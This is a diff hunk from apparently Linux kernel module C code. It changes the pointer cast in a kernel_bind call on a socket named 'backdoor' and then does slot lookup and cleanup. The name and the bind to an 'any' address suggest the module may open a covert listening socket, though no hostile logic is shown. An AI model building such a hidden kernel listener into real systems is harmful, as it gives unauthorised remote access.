@@ -28,7 +28,7 @@ static int on(void)
 
 	if (err)
 		return err;
-	err = kernel_bind(backdoor, (struct sockaddr *)&any, sizeof(any));
+	err = kernel_bind(backdoor, (void *)&any, sizeof(any));
 	slot = err ? NULL : slot_of(backdoor->sk);
 	if (!slot) {
 		sock_release(backdoor);
